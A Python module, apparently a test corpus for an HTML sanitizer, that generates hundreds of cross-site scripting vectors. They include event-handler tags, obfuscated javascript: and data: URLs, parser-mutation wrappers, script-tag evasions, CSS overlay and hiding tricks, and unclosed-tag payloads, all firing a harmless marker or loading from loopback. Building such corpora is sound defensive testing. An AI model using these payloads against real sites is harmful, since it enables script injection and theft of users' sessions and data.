"""Script vectors by class: markup that would run, load, cover or swallow something if it reached a reader as it is."""

# ruff: noqa: E501 - a vector cannot be broken

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "fired(1)"

EVENTS_ALONE = (  # tag and attributes under which the event comes without anybody's doing
    ("img src=x", "onerror"), ("image src=x", "onerror"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"), ("body", "onload"), ("body", "onpageshow"), ("svg", "onload"),
    ("iframe src=about:blank", "onload"), ("object data=x", "onerror"), ("embed src=x", "onerror"), ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"), ("input autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a href=# autofocus tabindex=1", "onfocus"),
    ("details open", "ontoggle"), ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("input type=image src=x", "onerror"),
    ("style", "onload"), ("frameset", "onload"), ("audio src autoplay", "onloadstart"), ("video autoplay src", "onloadstart"),
    ("div style=animation-name:x", "onanimationstart"), ("p contenteditable autofocus", "onfocus"), ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"), ("svg><set attributeName=x", "onbegin"), ("math><mi autofocus tabindex=1", "onfocus"), ("dialog open", "onclose"),
)  # fmt: skip
EVENTS_TOUCHED = (
    "onclick", "ondblclick", "onmousedown", "onmouseup", "onmouseover", "onmouseenter", "onmousemove", "onmouseout", "onwheel",
    "onpointerdown", "onpointerover", "onpointerrawupdate", "onkeydown", "onkeypress", "onkeyup", "oncopy", "oncut", "onpaste",
    "ondragstart", "ondrop", "oncontextmenu", "onauxclick", "onbeforeinput", "oninput", "onselectstart", "onfocusin", "ontouchstart",
)  # fmt: skip
TOUCHED_TAGS = ("b", "a href=#", "p", "td", "blockquote", "xss", "x-y", "time", "ins")
# What may stand between a tag's name and its attribute, and around the equals sign.
JOINTS = (" ", "/", "\t", "\n", "\f", "\r", "//", " x=y ", ' x="y"', " x='>' ", "/x=y/", "\x0c/")
EQUALS = ("=", " =", "= ", "\n=\t", "=\x0b")
QUOTES = ('"', "'", "", "`")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\rscript:",
    "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "javascript&#x0003A;", "&#106;avascript:", "&#x6A&#x61vascript:",
    "&#0000106avascript:", "java&Tab;script:", "java&NewLine;script:", "&#1;javascript:", "&#14;javascript:", "javascript\t:", "javascript&Tab;:",
    "vbscript:", "VBSCRIPT:", "livescript:", "mocha:", "jar:javascript:", "view-source:javascript:", "feed:javascript:", "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=fired(1)>", "DATA:text/html,", "blob:x", "filesystem:x",
    "file:///etc/passwd?", "javascript://a.example/%0a", "javascript:/*-->*/", "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:", "&#xfeff;javascript:",
    "j&#x61;v&#97;script&#x3A;", "javascript&#00000000058;", "javascript&lpar;:", "ｊavascript:", "javascript：",
)  # fmt: skip
URL_PLACES = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a xlink:href="{}">x</a>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<form action="{}"><button>x</button></form>', '<button form=f formaction="{}">x</button>',
    '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>', '<img src="{}">', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<area href="{}">', '<q cite="{}">x</q>', '<link rel=import href="{}">',
)  # fmt: skip
# Namespaces, raw text and the places where a parser and a printer are known to disagree.
MUTATIONS = (
    "<svg></p><style><a id=\"</style>{}\">", "<math></p><style><!--</style>{}-->", "<svg><style>{}</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}-->", "<math><mtext><table><mglyph><style><math>{}</style>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<svg><title><style>{}</style></title></svg>",
    "<svg><desc>{}</desc></svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<math><annotation-xml encoding=\"text/html\">{}</annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><style>{}</style></annotation-xml></math>", "<noscript><p title=\"</noscript>{}\">",
    "<noscript>{}</noscript>", "<textarea>{}</textarea>", "<textarea></textarea>{}", "<title>{}</title>", "<title></title>{}", "<template>{}</template>",
    "<xmp>{}</xmp>", "<xmp></xmp>{}", "<plaintext>{}", "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<iframe>{}</iframe>", "<iframe></iframe>{}",
    "<select><option>{}</option></select>", "<select>{}", "<table><tr>{}</tr></table>", "<table><caption>{}", "<p><table><p>{}", "<a><table><a>{}",
    "<!--{}-->", "<!-->{}-->", "<!--->{}-->", "<!-- --!>{}-->", "<!--><!-- >{}", "<![CDATA[{}]]>", "<svg><![CDATA[><{}]]></svg>", "<?xml {}?>", "<?php {}", "<!{}>",
    "<!DOCTYPE x [<!ENTITY y \"{}\">]>", "</{}>", "<//{}", "<%{}%>", "<b <{}", "<<{}", "<b>{}</b", "<x:{}", "&lt;b&gt;{}", "<div title=\"x\">\"{}",
    "<div title='{}'>", "<div title=\"{}\">", "<a title=\"{}\">x</a>", "<a title='\"{}' href=#>x</a>", "<time datetime=\"{}\">x</time>", "<td colspan='{}'>x",
    "<svg><p>{}", "<svg><br>{}", "<math><p>{}", "<math><mi><p>{}", "<svg><script>{}</script>", "<details><summary>{}", "<frameset>{}", "<head>{}", "<html {}>",
    "<dialog open>{}</dialog>", "<picture><source srcset=x>{}", "<object>{}</object>", "<applet>{}</applet>", "<video>{}</video>", "<canvas>{}</canvas>",
    "<b>" * 60 + "{}", "<table>" * 30 + "{}", "<svg>" * 12 + "{}", "<a>" * 12 + "<p>{}", "<ruby><rt>{}", "<isindex prompt=\"{}\">", "<listing>{}</listing>", "\x00{}",
)  # fmt: skip
PAYLOADS = ("<img src=x onerror=fired(1)>", "<script>fired(1)</script>", "<svg/onload=fired(1)>", '"><img src=x onerror=fired(1)>')
SCRIPTS = (
    "<script>fired(1)</script>", "<SCRIPT>fired(1)</SCRIPT>", "<script >fired(1)</script >", "<script\x00>fired(1)</script>", "<scr\x00ipt>fired(1)</script>",
    "<script/x>fired(1)</script>", "<script\n>fired(1)</script\n>", "<script src=//127.0.0.1:9/x.js></script>", "<script src=data:,fired(1)></script>",
    "<script>fired(1)", "<script>fired(1)</script", "<scr<script>ipt>fired(1)</script>", "<<script>fired(1)//<</script>", "</script><script>fired(1)</script>",
    "<script type=module>fired(1)</script>", "<script type=text/vbscript>fired(1)</script>", "<svg><script>fired(1)</script></svg>", "<svg><script href=data:,fired(1) />",
    "<svg><script>&#102;ired(1)</script></svg>", "<math><script>fired(1)</script></math>", "+ADw-script+AD4-fired(1)+ADw-/script+AD4-", "\u00bcscript\u00befired(1)\u00bc/script\u00be",
    "%3Cscript%3Efired(1)%3C/script%3E", "＜script＞fired(1)＜/script＞", "&lt;script&gt;fired(1)&lt;/script&gt;", "<script>//<!--\nfired(1)</script>", "<!--<script>-->fired(1)</script>",
    "<script language=javascript>fired(1)</script>", "<script async src=x onload=fired(1)></script>", "<script nomodule>fired(1)</script>", "<xml><script>fired(1)</script></xml>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>fired(1)</x:script>", "<iframe srcdoc='<script>parent.fired(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.fired(1)&lt;/script&gt;'></iframe>", "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.fired(1)\"/>'>",
)  # fmt: skip
LOADS = (
    "<img src=//127.0.0.1:9/a>", "<img srcset='//127.0.0.1:9/a 1x, //127.0.0.1:9/b 2x'>", "<picture><source srcset=//127.0.0.1:9/a><img></picture>",
    "<video poster=//127.0.0.1:9/a></video>", "<audio src=//127.0.0.1:9/a autoplay></audio>", "<video><track default src=//127.0.0.1:9/a></video>",
    "<link rel=stylesheet href=//127.0.0.1:9/a>", "<link rel=prefetch href=//127.0.0.1:9/a>", "<link rel=preload as=image href=//127.0.0.1:9/a>", "<link rel=dns-prefetch href=//a.example>",
    "<link rel=icon href=//127.0.0.1:9/a>", "<link rel=manifest href=//127.0.0.1:9/a>", "<body background=//127.0.0.1:9/a>", "<table background=//127.0.0.1:9/a><tr><td>x</table>",
    "<td background=//127.0.0.1:9/a>x</td>", "<input type=image src=//127.0.0.1:9/a>", "<iframe src=//127.0.0.1:9/a></iframe>", "<embed src=//127.0.0.1:9/a>",
    "<object data=//127.0.0.1:9/a></object>", "<base href=//127.0.0.1:9/><img src=a>", "<meta http-equiv=refresh content='0;//127.0.0.1:9/a'>",
    "<svg><image href=//127.0.0.1:9/a /></svg>", "<svg><use href=//127.0.0.1:9/a#b /></svg>", "<svg><filter><feImage href=//127.0.0.1:9/a /></filter></svg>", "<a ping=//127.0.0.1:9/a href=#>x</a>",
    "<style>@import '//127.0.0.1:9/a';</style>", "<style>body{background:url(//127.0.0.1:9/a)}</style>", "<style>@font-face{font-family:x;src:url(//127.0.0.1:9/a)}*{font-family:x}</style>",
    "<p style='background:url(//127.0.0.1:9/a)'>x</p>", "<p style='background:\\75rl(//127.0.0.1:9/a)'>x</p>", "<p style='list-style:url(//127.0.0.1:9/a);display:list-item'>x</p>",
    "<p style=\"content:url('//127.0.0.1:9/a')\">x</p>", "<li style='list-style-image:image-set(\"//127.0.0.1:9/a\" 1x)'>x</li>", "<p style='cursor:url(//127.0.0.1:9/a),auto'>x</p>",
    "<p style='mask:url(//127.0.0.1:9/a)'>x</p>", "<p style='border-image:url(//127.0.0.1:9/a) 1'>x</p>", "<svg><style>@import url(//127.0.0.1:9/a)</style></svg>", "<portal src=//127.0.0.1:9/a></portal>",
    "<frameset><frame src=//127.0.0.1:9/a></frameset>", "<applet codebase=//127.0.0.1:9/ code=a></applet>", "<bgsound src=//127.0.0.1:9/a>", "<img dynsrc=//127.0.0.1:9/a lowsrc=//127.0.0.1:9/b>",
    "<blockquote cite=//127.0.0.1:9/a>x</blockquote>", "<form action=//127.0.0.1:9/a><input name=q><button autofocus>x</button></form>", "<html manifest=//127.0.0.1:9/a>", "<xml src=//127.0.0.1:9/a></xml>",
    "<input type=hidden style='background:url(//127.0.0.1:9/a)'>", "<math><mtext style='background:url(//127.0.0.1:9/a)'>x</mtext></math>", "<p style='background:url(&quot;//127.0.0.1:9/a&quot;)'>x</p>",
)  # fmt: skip
STYLES = (
    "<p style='width:expression(fired(1))'>x</p>", "<p style='behavior:url(#x)'>x</p>", "<p style='-moz-binding:url(x)'>x</p>", "<p style='x:\\65xpression(fired(1))'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'><a href=https://a.example>x</a></div>", "<style>#after{display:none}</style>", "<style>*{visibility:hidden}", "<link rel=stylesheet href='data:text/css,#after{display:none}'>",
    "<div style=display:none>", "<div hidden>", "<body style=display:none>", "<div id=after>x</div>", "<form id=body name=cookie><input name=head></form>", "<a id=fired href=x>x</a>", "<img name=fired>",
    "<div class=after style='margin-top:-9999px'>x</div>", "<base target=_top>", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>", "<dialog open style='width:100%;height:100%'>x</dialog>", "<p popover>x</p>",
)  # fmt: skip
SWALLOWERS = (
    "<!--", "<!-- x", "<textarea>", "<title>", "<script>", "<style>", "<xmp>", "<plaintext>", "<noscript>", "<template>", "<iframe>", "<noembed>", "<noframes>",
    "<select>", "<svg>", "<math>", "<table>", "<table><tr><td>", "<a href='", '<a href="', "<a title=\"x", "<", "</", "<!", "<?", "<![CDATA[", "<p", "</div></div></body></html>",
    "<div>" * 300, "<b><i><a href=x>", "<frameset>", "<object>", "<video>", "<button>", "<form>", "<details>", "<ruby><rp>", "<dl><dt>", "<h1>", "<s><u>", "<center>", "<pre>\n<code>",
)  # fmt: skip


def vectors() -> Iterator[tuple[str, str]]:
    """Every vector with the name of its class."""
    for (tag, event), joint in product(EVENTS_ALONE, JOINTS[:5]):
        yield "events that come alone", f"<{tag}{joint}{event}={RUN}>"
    for (tag, event), quote, equals in product(EVENTS_ALONE[:8], QUOTES, EQUALS):
        yield "spellings of an attribute", f"<{tag} {event.upper()}{equals}{quote}{RUN}{quote}>x"
    for joint in JOINTS:
        yield "spellings of an attribute", f"<svg{joint}onload={RUN}>"
        yield "spellings of an attribute", f"<img{joint}src=x{joint}onerror={RUN}{joint}>"
    for event, tag in product(EVENTS_TOUCHED, TOUCHED_TAGS):
        yield "events that need a hand", f"<{tag} {event}={RUN}>x</{tag.split()[0]}>"
    for scheme in SCHEMES:
        yield "addresses that run", URL_PLACES[0].format(scheme + RUN)
    for place, scheme in product(URL_PLACES[1:], SCHEMES[::4]):
        yield "addresses that run", place.format(scheme + RUN)
    for around, payload in product(MUTATIONS, PAYLOADS):
        yield "mutations", around.format(payload)
    yield from (("scripts", one) for one in SCRIPTS)
    yield from (("loads", one) for one in LOADS)
    yield from (("styles and covers", one) for one in STYLES)
    yield from (("swallowers", one) for one in SWALLOWERS)
    for swallower, payload in product(SWALLOWERS, PAYLOADS[:2]):
        yield "swallowers", swallower + payload
